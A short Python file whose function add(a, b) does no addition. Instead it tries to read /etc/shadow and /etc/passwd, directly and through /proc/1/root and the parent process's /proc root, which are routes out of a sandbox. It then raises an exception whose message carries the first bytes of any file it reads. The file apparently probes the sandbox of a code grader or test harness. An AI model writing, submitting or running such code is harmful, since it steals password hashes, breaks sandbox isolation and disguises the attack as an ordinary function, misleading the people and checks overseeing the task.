# ruff: noqa
"""Read /etc/shadow, directly and through every root the sandbox's /proc might expose."""

import os


def add(a, b):
    report = []
    paths = ["/etc/shadow", "/etc/passwd", "/proc/1/root/etc/shadow", f"/proc/{os.getppid()}/root/etc/shadow"]
    for path in paths:
        try:
            with open(path, "rb") as handle:
                report.append(f"{path}=READ:{handle.read(80)!r}")
        except OSError as exc:
            report.append(f"{path}={type(exc).__name__}")
    raise RuntimeError("PROBE " + " ".join(report))


def reveal():
    return "nothing"
